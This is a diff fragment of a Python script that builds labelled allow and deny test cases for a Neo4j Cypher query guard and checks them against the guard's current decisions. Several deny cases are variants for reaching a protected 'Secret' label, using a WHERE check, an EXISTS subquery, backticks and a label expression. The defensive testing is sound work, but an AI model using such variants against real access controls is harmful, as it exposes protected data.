+add("RETURN '\\u00e9t\\u00e9' AS s", "allow", None, label=R, tags=["unicode-escape", "letters"], note="escapes decoding to letters are harmless")
+add("MATCH (n) WHERE n.x <> 1 AND n.y != 2 RETURN n", "deny", "parse.failed", label="MALFORMED", tags=["inequality"],
+    note="Neo4j 5 rejects != ('Unknown operation'); so does the guard")
+add("CALL DB.LABELS() YIELD label RETURN label", "deny", "procedure.not_allowed", label=P, tags=["case"],
+    note="Neo4j resolves procedure names case-sensitively; DB.LABELS does not exist")
+
+for q, tags in [("MATCH (s:Secret) RETURN s", ["denied-label"]), ("MATCH (n) WHERE n:Secret RETURN n", ["label-check"]),
+                ("MATCH (n) WHERE EXISTS { (n)-->(:`Secret`) } RETURN n", ["exists", "backticks"]),
+                ("MATCH (n:Public|Secret) RETURN n", ["label-expression"])]:
+    add(q, "deny", "label.denied", label=S, tags=tags, policy="permissive", note="the test policy denies label Secret")
+
+# sanity: every case decides as labelled with the current guard
+bad = []
+for c in out:
+    dec = check(c["query"], c["params"], c["tool"], POL[c["policy"]])
+    got = "allow" if dec.allowed else "deny"
+    if got != c["expect"] or (c["expect"] == "deny" and dec.rule != c["rule"]):
+        bad.append((c["id"], c["origin"], c["expect"], c["rule"], got, dec.rule, dec.reason, c["query"][:100]))
+for b in bad:
+    print("MISMATCH", b)
+print(len(out), "cases;", sum(c["expect"] == "deny" for c in out), "deny;", len(bad), "mismatches")
+with open('/work/main/tests/corpus/guard.jsonl', 'w') as f:
+    for c in out:
+        f.write(json.dumps(c, ensure_ascii=True) + "\n")
